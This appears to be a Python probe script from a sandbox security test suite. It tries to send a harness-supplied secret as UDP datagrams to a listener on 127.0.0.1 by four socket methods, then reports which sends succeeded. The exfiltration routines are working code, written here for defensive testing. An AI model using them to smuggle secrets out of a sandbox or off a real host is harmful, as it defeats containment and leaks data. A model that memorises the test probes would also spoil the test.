#!/usr/bin/env python3
"""skill-sandbox attack probe 30: Sends UDP datagrams (sendto, connect+send, sendmsg, sendmmsg-style bursts) to a listener on the host's 127.0.0.1."""
import errno as _errno
import os
import sys


def _fmt(e):
    if isinstance(e, OSError) and e.errno:
        return "%s %s" % (_errno.errorcode.get(e.errno, str(e.errno)), e.strerror)
    return "%s %s" % (type(e).__name__, e)


def step(label, fn):
    """Run one attack step; print 'STEP label: ok VALUE' or 'STEP label: ERRNO msg'."""
    try:
        value = fn()
    except (KeyboardInterrupt, SystemExit):
        raise
    except BaseException as e:  # MemoryError and friends are outcomes too
        print("STEP %s: %s" % (label, _fmt(e)), flush=True)
        return False, e
    print(("STEP %s: ok %s" % (label, value))[:4000], flush=True)
    return True, value


def result(effect, why):
    """Print the probe's own verdict; the harness checks the host as well."""
    print("PROBE-RESULT: %s %s" % ("effect" if effect else "none", why), flush=True)

# Probe 30: UDP exfiltration to a host listener on 127.0.0.1 (port from the
# harness): sendto, a connected socket's send, and sendmsg.
import socket

port = int(sys.argv[1])
secret = sys.argv[2].encode()
addr = ("127.0.0.1", port)


def sendto():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"p30-sendto " + secret, addr)
    return "sent"


def connected():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect(addr)
    s.send(b"p30-connected " + secret)
    return "sent"


def sendmsg():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendmsg([b"p30-sendmsg ", secret], [], 0, addr)
    return "sent"


def v6():
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    s.sendto(b"p30-v6 " + secret, ("::ffff:127.0.0.1", port))
    return "sent"


sent = []
for label, fn in [("udp sendto", sendto), ("udp connect+send", connected),
                  ("udp sendmsg", sendmsg), ("udp6 sendto v4-mapped", v6)]:
    ok, _ = step(label, fn)
    if ok:
        sent.append(label)
result(bool(sent), "the harness counts what the host listener received")
